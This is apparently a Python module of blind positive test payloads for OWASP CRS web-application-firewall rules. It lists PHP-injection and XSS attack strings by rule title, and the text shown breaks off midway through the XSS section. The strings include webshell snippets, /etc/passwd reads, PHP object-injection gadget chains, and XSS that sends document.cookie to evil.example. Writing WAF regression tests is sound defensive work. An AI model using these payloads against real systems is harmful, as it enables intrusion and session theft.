"""Blind positive tests for the SQL injection (942), XSS (941) and PHP injection (933) families, written as the
eighty-first author of the CRS 3.3.4 request-rule titles (and the SQLi, XSS and PHP request-rule titles CRS 4.x
added at paranoia levels 1-2), from the titles alone.

The angle: every variable a rule reads. A WAF rule reads named variables, and a rule author's regression tests
put the attack into each of them: argument values (ARGS) from the query string, a urlencoded form, JSON and
multipart fields; argument NAMES (ARGS_NAMES) from the query, the form, JSON keys and multipart part names;
cookie values and cookie NAMES; request headers (User-Agent, Referer, X-Forwarded-For, X-Api-Version, X-Custom);
the path (REQUEST_FILENAME / REQUEST_BASENAME); the whole body (REQUEST_BODY) as a raw text/plain body; XML element
text and attributes; and the multipart upload's file names (FILES) and a text file's content. For each title this
set holds 6 to 13 payloads of its own (the canonical attack, the family's alternatives, and one or two evasions a
server decodes: double URL encoding, HTML entities, JSON \\u escapes, mixed case, comments and whitespace
substitutes) and gives each payload ONE variable, spreading a title's payloads over as many variables as make
sense for it: first the variables nearly every rule of the family reads (query, JSON, form, cookie, XML; for XSS
also User-Agent and Referer), then, rotating per title, the rarer ones.

Families and sub-families (one sub-family per detection title):
- php (933xxx, plus the 4.x PHP titles): php-open-tag, php-script-upload, php-config-directive, php-variables,
  php-io-stream, php-wrapper-scheme (also the 4.x "Wrapper scheme detected"), php-high-risk-function-name,
  php-high-risk-function-call, php-serialized-object, php-variable-function-call, php-callee-expression (933210),
  php-medium-risk-function-name, php-callee-string-array-concat (4.x), php-data-scheme (4.x).
- xss (941xxx, plus the 4.x XSS titles): libinjection-xss, script-tag, event-handler, attribute-vector,
  javascript-uri, noscript-html-injection, noscript-attribute-injection, node-validator-blacklist, ie-style,
  ie-vmlframe, ie-js-obfuscated, ie-vbs-obfuscated, ie-embed, ie-import, ie-meta-http-equiv, ie-meta-charset,
  ie-link-href, ie-base-href, ie-applet, ie-object, us-ascii-malformed, utf7, jsfuck-hieroglyphy,
  js-global-variable, libinjection-xss-path-referer (941101), disallowed-html-attributes, html-tag-handler,
  ie-quote-break-property, ie-quote-break-member, angularjs-csti (also the 4.x AngularJS title), js-method (4.x),
  js-no-parens (4.x).
- sqli (942xxx, plus the 4.x SQLi titles): libinjection-sqli, common-db-names, blind-sleep-benchmark,
  conditional-sleep-benchmark, mssql-exec-info, integer-overflow-magic, conditional-injection,
  charset-switch-mssql-dos, match-merge-execute-immediate, union-select-from, pg-sleep-waitfor-shutdown,
  mongodb-operators, stored-procedure-function, udf-data-manipulation, concatenated-sqllfi, mysql-inline-comment,
  injection-testing-quotes, sql-operator, sql-tautology, sql-function-names, auth-bypass-1,
  comment-space-obfuscation-backtick, chained-injection-1, auth-bypass-2, comments-conditions-char,
  chained-injection-2, classic-probing-1, auth-bypass-3, alter-union-keyword, classic-probing-2, keyword-clauses,
  or-comparison, and-comparison, sql-function-calls-wide, mssql-oracle-procedures, statement-keywords,
  special-char-anomaly, comment-sequence, hex-encoding, ticks-backticks, json-sqli (4.x), scientific-notation (4.x),
  auth-bypass-split-query (4.x), auth-bypass-4 (4.x).

Placements (the record's `placement`): query, query-name, form, form-name, json, json-key, xml, xml-attr, cookie,
cookie-name, header:User-Agent, header:Referer, header:X-Forwarded-For, header:X-Api-Version, header:X-Custom,
header:X-Filename, header:X-File-Name, path, raw-body, multipart-field, multipart-name, multipart-filename,
multipart-file. Requests go to the product's real routes only: GET /api/users?..., POST /api/users (JSON, XML,
text/plain, multipart), PATCH /api/users/42, POST /admin/users/search (form with csrf_token), POST /me/settings
(form, multipart), POST /oauth/token (form) and POST /slack/events (JSON with a made-up signature, as an attacker
who cannot sign sends it), each with a browser's or a client's ordinary headers around the payload.

The benign half carries the same words innocently, in the same variables: Slack messages and bios of developers
talking about SQL, HTML and PHP, searches for names and things (O'Brien, Union Station, drop-off times), profile
fields in JSON, XML and multipart, ordinary paths, browser and client User-Agents and Referers, cookies, parameter
names and JSON keys of real APIs, uploads with ordinary file names and text files, and OAuth token requests.

Authorship and independence: written from general knowledge of each attack family and from the rule titles alone
(no rule, ruleset regression test, WAF engine file or public payload list was read), measured once through the
real stack on unchanged code, and not changed after the measurement. Deterministic (no clock, no unseeded
randomness: tokens are hashes of the record number).
"""

from __future__ import annotations

import hashlib
import json
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from .family_gen_blind_php import chat_and_bio
from .records import b64url, print_records

NAME = "eightyfirst"

Entry = str | tuple[str, str] | tuple[str, str, str]   # payload | (placement, payload) | (placement, payload, enc)

# ---------------------------------------------------------------------------------------------------------------
# PHP injection (933xxx and the 4.x PHP titles)
# ---------------------------------------------------------------------------------------------------------------
PHP: list[tuple[str, list[Entry]]] = [
    # 933100 PHP Open Tag Found
    ("php-open-tag", [
        "<?php system($_GET['cmd']); ?>",
        "<?= shell_exec('id') ?>",
        "<?PHP echo file_get_contents('/etc/passwd');",
        "<script language=\"php\">system(\"id\");</script>",
        "<? passthru('whoami'); ?>",
        ("multipart-file", "GIF89a;<?php @eval($_REQUEST['x']); ?>"),
        "%3C%3Fphp%20phpinfo()%3B%20%3F%3E",
        "<?php/**/eval($_POST[0]);",
        "<?pHp print(`uname -a`);?>",
        "[[<?=$_GET[1]?>]]",
        "<?php\r\n$f=fopen('x.php','w');",
    ]),
    # 933110 PHP Script File Upload Found
    ("php-script-upload", [
        ("multipart-filename", "shell.php"),
        ("multipart-filename", "avatar.php5"),
        ("multipart-filename", "image.jpg.phtml"),
        ("multipart-filename", "cmd.PHP"),
        ("multipart-filename", "backdoor.php7"),
        ("header:X-Filename", "upload.php"),
        ("header:X-File-Name", "avatar.php4"),
        ("multipart-filename", "shell.php."),
        ("multipart-filename", "report.pdf.php"),
        ("header:X-Filename", "s.phtml"),
        ("multipart-filename", "shell.pHp3"),
    ]),
    # 933120 Configuration Directive Found
    ("php-config-directive", [
        "allow_url_include=1",
        "auto_prepend_file=php://input",
        ("query-name", "-d allow_url_include=1 -d auto_prepend_file=php://input"),
        "disable_functions = \"\"",
        "open_basedir=/",
        "safe_mode=Off",
        "register_globals=On",
        "auto_append_file=/var/www/uploads/x.txt",
        ("multipart-file", "php_value auto_prepend_file \"/tmp/x\""),
        "error_log=/var/www/html/s.php",
        "ALLOW_URL_FOPEN=on",
        "%61llow_url_include%3D1",
    ]),
    # 933130 Variables Found
    ("php-variables", [
        "$_SERVER['DOCUMENT_ROOT']",
        "$GLOBALS",
        "echo $_COOKIE['session'];",
        "$_REQUEST[cmd]",
        "$HTTP_POST_VARS",
        "print_r($_ENV)",
        ("query-name", "$_SESSION[admin]"),
        "$_FILES['f']['tmp_name']",
        "%24_GET%5B0%5D",
        "$HTTP_RAW_POST_DATA",
        "$http_response_header",
        "$_ENV[\"PATH\"]",
    ]),
    # 933140 I/O Stream Found
    ("php-io-stream", [
        "php://input",
        "php://filter/convert.base64-encode/resource=index.php",
        "php://stdin",
        "PHP://FD/0",
        "php://memory",
        "php://temp/maxmemory:1024",
        "php://output",
        "php://stderr",
        "php%3A%2F%2Finput",
        "pHp://InPuT",
        "php://filter/read=string.rot13/resource=/etc/hosts",
    ]),
    # 933200 Wrapper scheme detected (also the 4.x title of the same name)
    ("php-wrapper-scheme", [
        "expect://id",
        "phar:///var/www/uploads/avatar.jpg/shell",
        "zip://uploads/a.zip#x.php",
        "compress.zlib:///etc/hosts",
        "glob:///var/www/html/*.php",
        "ssh2.exec://host.example:22/usr/bin/id",
        "rar://uploads/archive.rar#inner.php",
        "ogg://uploads/audio.ogg",
        "compress.bzip2:///tmp/x.bz2",
        "ExPeCt://ls",
        "phar%3A%2F%2Fuploads%2Fx.jpg",
        "zlib://data.gz",
    ]),
    # 933150 High-Risk PHP Function Name Found
    ("php-high-risk-function-name", [
        "shell_exec",
        "passthru",
        "phpinfo",
        "proc_open",
        "base64_decode",
        "gzinflate",
        ("query-name", "phpinfo"),
        "call_user_func_array",
        "create_function",
        "fsockopen",
        "move_uploaded_file",
        "str_rot13",
        "PHPINFO",
    ]),
    # 933160 High-Risk PHP Function Call Found
    ("php-high-risk-function-call", [
        "system('id')",
        "exec(\"cat /etc/passwd\")",
        "eval(\"echo 1;\")",
        "assert(base64_decode(\"cGhwaW5mbygpOw==\"))",
        "popen('id','r')",
        "system/**/(\"uname -a\")",
        "system\t(\"ls\")",
        "SyStEm('whoami')",
        "readfile(\"/etc/passwd\")",
        "fwrite(fopen(\"s.php\",\"w\"),\"x\")",
        "system%28%27id%27%29",
        "pcntl_exec('/bin/sh')",
        ("json", "file_put_contents('a.php', 'x')", "u"),
    ]),
    # 933170 Serialized Object Injection
    ("php-serialized-object", [
        "O:8:\"stdClass\":1:{s:4:\"role\";s:5:\"admin\";}",
        "a:1:{i:0;O:10:\"FileLogger\":1:{s:4:\"path\";s:13:\"/tmp/evil.php\";}}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:+4:\"User\":1:{s:7:\"isAdmin\";b:1;}",
        "o:4:\"Cart\":0:{}",
        ("cookie", "Tzo4OiJzdGRDbGFzcyI6MDp7fQ=="),
        "O%3A4%3A%22User%22%3A0%3A%7B%7D",
        "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\\0*\\0events\";"
        "O:25:\"Illuminate\\Bus\\Dispatcher\":0:{}s:8:\"\\0*\\0event\";s:2:\"id\";}",
        "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:8:\"filename\";s:11:\"/tmp/sh.php\";}",
        ("json", "O:8:\"stdClass\":1:{s:4:\"role\";s:5:\"admin\";}", "u"),
        "x=1&prefs=O:7:\"Session\":1:{s:5:\"admin\";b:1;}",
    ]),
    # 933180 Variable Function Call Found
    ("php-variable-function-call", [
        "$f='system';$f('id');",
        "$_GET['a']($_GET['b']);",
        "$cmd(\"whoami\")",
        "$a = 'ass'.'ert'; $a($_POST[1]);",
        "$func/**/('id')",
        "$x  (\"ls\")",
        "$$name('id')",
        "${'f'}('id')",
        "%24f%28%22id%22%29",
        "$F('uname -a')",
        "@$_POST['cb'](@$_POST['arg'])",
    ]),
    # 933210 Variable Function Call Found (callee expressions)
    ("php-callee-expression", [
        "(system)('id')",
        "('sys'.'tem')('whoami')",
        "\"system\"(\"id\")",
        "'ex'.'ec'('ls')",
        "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")(\"id\")",
        "(/*x*/system/*y*/)(\"id\")",
        "(base64_decode('c3lzdGVt'))('id')",
        "(strrev('metsys'))('id')",
        "(implode('',['sy','st','em']))('id')",
        "(\"SYSTEM\")(\"id\")",
        "(%22system%22)(%22id%22)",
    ]),
    # 933151 Medium-Risk PHP Function Name Found
    ("php-medium-risk-function-name", [
        "chmod('/var/www/html', 0777)",
        "curl_exec($ch)",
        "ftp_connect('203.0.113.9')",
        "getenv('DB_HOST')",
        "highlight_file('index.php')",
        "ini_get_all()",
        "putenv('LD_PRELOAD=/tmp/x.so')",
        "symlink('/etc/passwd','x.txt')",
        "parse_str('a=1')",
        "get_defined_vars()",
        "mb_ereg_replace('.*','id','x','e')",
        "escapeshellcmd('ls')",
    ]),
    # 4.x Variable Function Call Found (string / array / concatenated callees)
    ("php-callee-string-array-concat", [
        "['system'][0]('id');",
        "array('assert')[0]('phpinfo()');",
        "\"pass\".\"thru\"(\"id\")",
        "[chr(115).chr(121).chr(115).'tem'][0]('id')",
        "$arr['fn']('id')",
        "$cb[1][0](\"whoami\")",
        "\"\\163\\171\\163\\164\\145\\155\"('id')",
        "'shell' . '_exec'('id')",
        "('sh'.'ell_ex'.'ec')/**/('ls')",
        "(['sys'.'tem'])[0]('id')",
        "%5B%27system%27%5D%5B0%5D(%27id%27)",
    ]),
    # 4.x PHP data scheme attack
    ("php-data-scheme", [
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "data:text/plain,<?php phpinfo();?>",
        "data://text/plain,<?php system('id');",
        "data:application/x-php;base64,PD9waHAgZWNobyAxOw==",
        "DATA://text/plain;base64,cGhwaW5mbygpOw==",
        "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHA",
        "data://text/plain;charset=utf-8,<?=`id`?>",
        "data://image/jpeg;base64,PD9waHAgZXZhbCgkX1BPU1RbMF0pOyA/Pg==",
    ]),
]

# ---------------------------------------------------------------------------------------------------------------
# XSS (941xxx and the 4.x XSS titles)
# ---------------------------------------------------------------------------------------------------------------
XSS: list[tuple[str, list[Entry]]] = [
    # 941100 XSS Attack Detected via libinjection
    ("libinjection-xss", [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "\"><svg onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\">",
        "<body onload=alert('xss')>",
        "'><details open ontoggle=confirm(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&lt;img src=x onerror=alert(1)&gt;",
        "<ScRiPt>prompt(1)</sCrIpT>",
        "<svg/onload=alert(1)>",
        ("json", "<img src=x onerror=alert(1)>", "u"),
    ]),
    # 941110 Script Tag Vector
    ("script-tag", [
        "<script>alert(document.cookie)</script>",
        "<script src=https://evil.example/x.js></script>",
        "<SCRIPT>fetch('//evil.example?c='+document.cookie)</SCRIPT>",
        "<script type=\"text/javascript\">alert(1)</script>",
        "<script/src=//evil.example/a.js>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<script\n>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        ("json", "<script>alert(1)</script>", "u"),
    ]),
    # 941120 Event Handler Vector
    ("event-handler", [
        "<img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "<div onpointerenter=alert(1)>hover</div>",
        "<video><source onerror=\"alert(1)\">",
        "<input onfocus=alert(1) autofocus>",
        "<body onpageshow=alert(1)>",
        "<svg onload  =  alert(1)>",
        "<img src=x OnErRoR=alert(1)>",
        "%22%20onmouseover%3D%22alert(1)",
        "<marquee onstart=alert(1)>",
        "<form><button formaction=x onclick=alert(1)>go</button></form>",
    ]),
    # 941130 Attribute Vector
    ("attribute-vector", [
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<button formaction=\"javascript:alert(1)\">go</button>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<form><input type=submit formaction=//evil.example/steal>",
        "<link rel=stylesheet href=\"data:text/css;base64,Ym9keXtiYWNrZ3JvdW5kOnJlZH0=\">",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">click</maction></math>",
        "%3Cobject%20data%3D%22data%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD4%3D%22%3E",
    ]),
    # 941140 Javascript URI Vector
    ("javascript-uri", [
        "javascript:alert(1)",
        "<a href=\"javascript:alert(document.cookie)\">profile</a>",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
        "<div style=\"background:url(javascript:alert(1))\">",
        "java&#x09;script:alert(1)",
        "javascript%3Aalert%281%29",
        "  javascript:void(fetch('//evil.example/'+document.cookie))",
        "JAVASCRIPT:prompt(1)",
        ("xml-attr", "javascript:alert(1)"),
        "java\tscript:alert(1)",
        "<form action=\"javascript:alert(1)\"><input type=submit>",
        ("header:Referer", "javascript:alert(document.domain)"),
    ]),
    # 941160 NoScript XSS InjectionChecker: HTML Injection
    ("noscript-html-injection", [
        "<iframe src=//evil.example/phish></iframe>",
        "<form action=https://evil.example/login method=post><input name=user>",
        "<object data=//evil.example/x.swf>",
        "<embed src=//evil.example/x.swf>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<base href=//evil.example/>",
        "<link rel=import href=//evil.example/x.html>",
        "<style>body{background:url(//evil.example/track)}</style>",
        "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
        "<isindex action=javascript:alert(1) type=image>",
        "%3Ciframe%20src%3D%2F%2Fevil.example%3E",
        "<IfRaMe SrC=//evil.example>",
    ]),
    # 941170 NoScript XSS InjectionChecker: Attribute Injection
    ("noscript-attribute-injection", [
        "javascript:window.location='//evil.example/?'+document.cookie",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html,<script>alert(1)</script>",
        "@import url(//evil.example/x.css);",
        "-moz-binding:url(//evil.example/xss.xml#x)",
        "javascript:eval(name)",
        "javascript:\\u0061lert(1)",
        "data:image/svg+xml;charset=utf-8,<svg onload=alert(1)>",
        "@imp/**/ort url(//evil.example/a.css)",
        "JavaScript:document.write('<img src=//evil.example>')",
        ("xml-attr", "data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+"),
        "data%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD4%3D",
    ]),
    # 941180 Node-Validator Blacklist Keywords
    ("node-validator-blacklist", [
        "document.cookie",
        "'+document.cookie+'",
        "document.write(\"<img src=//evil.example>\")",
        "x.parentNode.removeChild(x)",
        "el.innerHTML='<img src=x>'",
        "window.location='https://evil.example'",
        "-moz-binding:url(x.xml#xss)",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "--><b>owned</b>",
        ("json", "<![CDATA[<script>alert(1)</script>]]>"),
        "DOCUMENT.COOKIE",
        "document%2Ecookie",
        "document/**/.cookie",
    ]),
    # 941190 IE XSS Filters: <style> with @import / expression()
    ("ie-style", [
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<style>*{x:expression(alert(1))}</style>",
        "<STYLE>li{list-style-image:url(\"javascript:alert(1)\")}</STYLE>",
        "<style>@\\import'//evil.example/a.css';</style>",
        "<style type=\"text/css\">div{behavior:url(x.htc)}</style>",
        "<style>a{color&#58;expression&#40;alert(1)&#41;}</style>",
        "%3Cstyle%3E%40import%20'x.css'%3C%2Fstyle%3E",
        "<style>div{width:expression(alert(document.cookie))}</style>",
    ]),
    # 941200 IE XSS Filters: vmlframe
    ("ie-vmlframe", [
        "<v:vmlframe src=\"https://evil.example/x.vml\">",
        "<vmlframe src=//evil.example/a#xss>",
        "<v:vmlframe  src  =  \"x.vml#x\"></v:vmlframe>",
        "<VMLFRAME/SRC=x.vml>",
        "<xss:vmlframe src=\"javascript:alert(1)\">",
        "%3Cv%3Avmlframe%20src%3Dx.vml%3E",
        "&lt;v:vmlframe src=x&gt;",
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"//evil.example/a.vml\"/>",
    ]),
    # 941210 IE XSS Filters: obfuscated javascript:
    ("ie-js-obfuscated", [
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;avascript:alert(1)",
        "java&Tab;script:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "ja&NewLine;vascript:alert(1)",
        "j&#x0A;avas&#x0D;cript:alert(1)",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
        "&#0000058alert(1)\">x</a>",
        "java\tscript:alert(1)",
        "JaVa&#x53;cRiPt:alert(1)",
        "%26%23106%3Bavascript:alert(1)",
    ]),
    # 941220 IE XSS Filters: obfuscated vbscript:
    ("ie-vbs-obfuscated", [
        "vbscript:msgbox(1)",
        "&#118;&#98;&#115;&#99;&#114;&#105;&#112;&#116;&#58;msgbox(\"x\")",
        "vb&#x09;script:Execute(\"MsgBox 1\")",
        "v&Tab;bscript:alert(1)",
        "<a href=\"vbscript:MsgBox(document.cookie)\">x</a>",
        "VBSCRIPT:msgbox(0)",
        "vbs&NewLine;cript:msgbox(1)",
        "&#x76;bscript:msgbox(1)",
        "vbscript%3Amsgbox(1)",
        "<img src=\"vbscript:msgbox('xss')\">",
    ]),
    # 941230 IE XSS Filters: <embed>
    ("ie-embed", [
        "<embed src=\"https://evil.example/x.swf\">",
        "<EMBED type=\"image/svg+xml\" src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<embed/src=//evil.example/x>",
        "<embed+src=x.swf>",
        "<embed code=\"x\" type=\"text/html\">",
        "<embed src=javascript:alert(1)>",
        "%3Cembed%20src%3Dx.swf%3E",
        "<EmBeD allowscriptaccess=always src=//evil.example/a.swf>",
    ]),
    # 941240 IE XSS Filters: <?import implementation=
    ("ie-import", [
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<import implementation=\"//evil.example/x.htc\">",
        "<?IMPORT implementation = \"x.htc\">",
        "<?import/implementation=x.htc>",
        "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\">"
        "<t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(1)</SCRIPT>\">",
        "%3C%3Fimport%20implementation%3D%22x.htc%22%3E",
        "<?import namespace=\"xss\" implementation=\"http://evil.example/xss.htc\">",
        "&lt;?import implementation=\"a.htc\"&gt;",
    ]),
    # 941250 IE XSS Filters: <meta http-equiv=
    ("ie-meta-http-equiv", [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"admin=1\">",
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
        "<meta/http-equiv=refresh content=\"0;https://evil.example\">",
        "<meta http-equiv = 'refresh' content='1'>",
        "<meta http-equiv=\"&#114;efresh\" content=\"0;url=//evil.example\">",
        "%3Cmeta%20http-equiv%3Drefresh%20content%3D0%3Burl%3D%2F%2Fevil.example%3E",
        "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    ]),
    # 941260 IE XSS Filters: <meta charset=
    ("ie-meta-charset", [
        "<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<META CHARSET=x-imap4-modified-utf7>",
        "<meta/charset=utf-7>",
        "<meta content=\"text/html\" charset = \"ISO-2022-JP\">",
        "%3Cmeta%20charset%3Dutf-7%3E",
        "<MeTa+charset=utf-7>",
        "&lt;meta charset=\"utf-7\"&gt;",
        "<meta name=x charset=utf-16be>",
    ]),
    # 941270 IE XSS Filters: <link href=
    ("ie-link-href", [
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<link/rel=import href=//evil.example/x.html>",
        "<link rel=prefetch href=\"//evil.example/?c=\">",
        "<link+href=x.css>",
        "%3Clink%20rel%3Dstylesheet%20href%3D%2F%2Fevil.example%2Fx.css%3E",
        "<LiNk href = \"data:text/css,body{}\">",
        "&lt;link href=x.css&gt;",
    ]),
    # 941280 IE XSS Filters: <base href=
    ("ie-base-href", [
        "<base href=\"https://evil.example/\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<base/href=//evil.example>",
        "<base target=_blank href=\"//evil.example/\">",
        "<base  href = x>",
        "%3Cbase%20href%3D%2F%2Fevil.example%2F%3E",
        "<BaSe HrEf=//203.0.113.9/>",
        "&lt;base href=\"//evil.example\"&gt;",
    ]),
    # 941290 IE XSS Filters: <applet>
    ("ie-applet", [
        "<applet code=\"Exploit.class\" archive=\"//evil.example/x.jar\">",
        "<APPLET>",
        "<applet/code=x.class>",
        "<applet+codebase=//evil.example/ code=A>",
        "<applet code=\"javascript:alert(1)\"></applet>",
        "%3Capplet%20code%3Dx.class%3E",
        "<ApPlEt>",
        "&lt;applet code=x&gt;",
    ]),
    # 941300 IE XSS Filters: <object data/type/classid/code=
    ("ie-object", [
        "<object data=\"https://evil.example/x.swf\">",
        "<object type=\"text/x-scriptlet\" data=\"//evil.example/x.sct\"></object>",
        "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><PARAM NAME=\"DataURL\" "
        "VALUE=\"javascript:alert(1)\"></OBJECT>",
        "<object/data=javascript:alert(1)>",
        "<object codetype=\"application/java\" code=\"x.class\">",
        "<object+data=//evil.example/a>",
        "%3Cobject%20data%3D%2F%2Fevil.example%2Fx%3E",
        "<ObJeCt DaTa=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    ]),
    # 941310 US-ASCII Malformed Encoding XSS Filter (0xBC / 0xBE as < and >)
    ("us-ascii-malformed", [
        ("query", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "latin1"),
        ("form", "\u00bcimg src=x onerror=alert(1)\u00be", "latin1"),
        ("cookie", "\u00bcsvg onload=alert(document.domain)\u00be", "latin1"),
        ("path", "\u00bc/title\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be", "latin1"),
        ("query-name", "\u00bciframe src=javascript:alert(1)\u00be", "latin1"),
        ("query", "\"\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be", "latin1"),
        ("form-name", "\u00bcScRiPt\u00beprompt(1)\u00bc/ScRiPt\u00be", "latin1"),
        ("json", "\u00bcscript\u00bealert(1)\u00bc / script\u00be"),
        ("xml", "\u00bcbody onload=alert(1)\u00be"),
        ("cookie-name", "\u00bca href=x\u00beclick\u00bc / a\u00be", "latin1"),
    ]),
    # 941350 UTF-7 Encoding IE XSS
    ("utf7", [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ACI-+AD4-+ADw-svg onload=alert(1)+AD4-",
        "+ADw-SCRIPT+AD4-alert('XSS')+ADsAPA-/SCRIPT+AD4-",
        "+ADw-iframe src=javascript:alert(1)+AD4-",
        "%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
        "+ADwAcwBjAHIAaQBwAHQAPgA-alert(1)",
        "x+ADw-/title+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-body onload=alert(1)+AD4-",
    ]),
    # 941360 JSFuck / Hieroglyphy obfuscation
    ("jsfuck-hieroglyphy", [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+!+[]]",
        "!![]+!![]",
        "(+!+[]+[+[]])",
        "[][(!![]+[])[!+[]+!+[]+!+[]]+([][[]]+[])[+!+[]]]",
        "%21%5B%5D%2B%5B%5D",
        "!+[]+!+[]+!+[]",
        "(!![]+[])[+!![]]",
        "[+!+[]]+[+[]]+(![]+[])[!+[]+!+[]+!+[]]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$]};",
    ]),
    # 941370 JavaScript global variable found
    ("js-global-variable", [
        "window['alert'](document.cookie)",
        "self['al'+'ert'](1)",
        "top[/*x*/'eval']('alert(1)')",
        "this[\"constructor\"][\"constructor\"](\"alert(1)\")()",
        "document['cookie']",
        "parent['alert'](1)",
        "window /*x*/ ['location']='//evil.example'",
        "frames['alert'](1)",
        "self[atob('YWxlcnQ=')](1)",
        "top[8680439..toString(30)](1)",
        "window%5B%27alert%27%5D(1)",
        "globalThis['fetch']('//evil.example')",
    ]),
    # 941101 XSS Attack Detected via libinjection (path and Referer)
    ("libinjection-xss-path-referer", [
        ("path", "<script>alert(1)</script>"),
        ("header:Referer", "https://app.example.com/\"><script>alert(1)</script>"),
        ("path", "\"><img src=x onerror=alert(1)>"),
        ("header:Referer", "<svg onload=alert(1)>"),
        ("path", "<svg/onload=alert(document.domain)>"),
        ("header:Referer", "'><iframe src=javascript:alert(1)>"),
        ("path", "<body onload=alert(1)>"),
        ("header:Referer", "https://evil.example/?<img src=x onerror=prompt(1)>"),
        ("path", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("query", "<details/open/ontoggle=alert(1)>"),
    ]),
    # 941150 Disallowed HTML Attributes
    ("disallowed-html-attributes", [
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
        "<img src=\"https://evil.example/track.gif\">",
        "<a href=\"https://evil.example/login\">Reset your password</a>",
        "\" style=\"background:url(//evil.example/x)",
        "<p style=color:red>",
        "<iframe src = //evil.example>",
        "' href='//evil.example'",
        "<img SRC=x>",
        "style%3D%22x%22",
        "<span style=\"font-size:99px\">HACKED</span>",
    ]),
    # 941320 Possible XSS Attack Detected - HTML Tag Handler
    ("html-tag-handler", [
        "<b>bold</b><marquee>HACKED</marquee>",
        "<h1>Site defaced</h1>",
        "<form action=//evil.example><input name=pin></form>",
        "<table background=\"javascript:alert(1)\">",
        "<plaintext>",
        "<xmp>",
        "<blink>free prize</blink>",
        "<textarea autofocus onfocus=alert(1)>",
        "<bgsound src=//evil.example/a.mid>",
        "%3Ch1%3Ehacked%3C%2Fh1%3E",
        "<FONT size=99>",
    ]),
    # 941330 IE XSS Filters: quote break then location / name / onerror / valueOf =
    ("ie-quote-break-property", [
        "\";location='//evil.example/?'+document.cookie;//",
        "';name='alert(1)';//",
        "\"+onerror=alert;throw 1//",
        "'; location = 'javascript:alert(1)';//",
        "\"*valueOf=alert;//",
        "'}; \\u006Cocation='//evil.example';//",
        "\"; window.name='x'; location=name;//",
